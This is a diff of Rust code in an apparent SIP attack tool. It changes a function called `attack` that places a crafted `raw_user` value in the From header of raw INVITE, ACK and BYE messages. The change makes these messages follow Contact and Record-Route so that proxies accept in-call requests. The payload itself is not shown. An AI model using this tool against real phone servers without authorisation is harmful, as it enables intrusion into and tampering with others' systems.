@@ -343,24 +343,28 @@ pub fn attack(
         "v=0\r\no=- 1 1 IN IP4 {ip}\r\ns=-\r\nc=IN IP4 {ip}\r\nt=0 0\r\nm=audio 40002 RTP/AVP 0\r\n",
         ip = local.ip()
     );
-    let message = |method: &str, cseq: u32, branch: u32, to: &str, body: &str| {
+    let message = |method: &str, cseq: u32, branch: u32, way: &Way, body: &str| {
+        let Way { target, route, to } = way;
         format!(
-            "{method} sip:{extension}@{server} SIP/2.0\r\nVia: SIP/2.0/UDP {local};branch=z9hG4bK{id}-{branch};rport\r\n\
+            "{method} {target} SIP/2.0\r\nVia: SIP/2.0/UDP {local};branch=z9hG4bK{id}-{branch};rport\r\n{route}\
              Max-Forwards: 70\r\nFrom: <sip:{raw_user}@{local}>;tag={id}\r\nTo: {to}\r\nCall-ID: {id}@attack\r\n\
              CSeq: {cseq} {method}\r\nContact: <sip:x@{local}>\r\n{kind}Content-Length: {length}\r\n\r\n{body}",
             kind = if body.is_empty() { "" } else { "Content-Type: application/sdp\r\n" },
             length = body.len(),
         )
     };
-    let callee = format!("<sip:{extension}@{server}>");
-    socket.send_to(message("INVITE", 1, 1, &callee, &sdp).as_bytes(), server)?;
-    let (status, to) = final_response(&socket, " INVITE")?;
-    let branch = if status < 300 { 2 } else { 1 };
-    socket.send_to(message("ACK", 1, branch, &to, "").as_bytes(), server)?;
+    let target = format!("sip:{extension}@{server}");
+    let first = Way { to: format!("<{target}>"), target, route: String::new() };
+    socket.send_to(message("INVITE", 1, 1, &first, &sdp).as_bytes(), server)?;
+    let (status, inside) = final_response(&socket, " INVITE")?;
     if status < 300 {
+        socket.send_to(message("ACK", 1, 2, &inside, "").as_bytes(), server)?;
         std::thread::sleep(stay);
-        socket.send_to(message("BYE", 2, 3, &to, "").as_bytes(), server)?;
+        socket.send_to(message("BYE", 2, 3, &inside, "").as_bytes(), server)?;
         final_response(&socket, " BYE")?;
+    } else {
+        let refused = Way { to: inside.to, ..first };
+        socket.send_to(message("ACK", 1, 1, &refused, "").as_bytes(), server)?;
     }
     Ok(status)
 }
@@ -378,8 +382,17 @@ fn escaped(byte: u8) -> String {
     if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02x}") }
 }
 
-/// Status and To of the final response to a method.
-fn final_response(socket: &UdpSocket, method: &str) -> io::Result<(u16, String)> {
+/// Where a request goes and to whom.
+struct Way {
+    target: String,
+    /// `Route` lines, whole.
+    route: String,
+    to: String,
+}
+
+/// The final response to a method: its status, and how a request inside of the call goes (RFC 3261 section 12.1.2): some proxies answer nothing that comes
+/// in another way.
+fn final_response(socket: &UdpSocket, method: &str) -> io::Result<(u16, Way)> {
     let mut buffer = [0; 65_536];
     loop {
         let (length, _) = socket.recv_from(&mut buffer)?;
@@ -393,7 +406,16 @@ fn final_response(socket: &UdpSocket, method: &str) -> io::Result<(u16, String)>
         if let Some(status) = status.filter(|status| *status >= 200)
             && header("cseq:").ends_with(method)
         {
-            return Ok((status, header("to:")));
+            let contact = header("contact:");
+            let target = contact.split(['<', '>']).find(|part| part.starts_with("sip:")).unwrap_or_default();
+            let records = text.lines().filter_map(|line| {
+                line.get(..13)
+                    .filter(|name| name.eq_ignore_ascii_case("record-route:"))
+                    .map(|_| line[13..].trim())
+            });
+            let records: Vec<String> = records.map(|record| format!("Route: {record}\r\n")).collect();
+            let route = records.into_iter().rev().collect();
+            return Ok((status, Way { target: target.to_owned(), route, to: header("to:") }));
         }
     }
 }
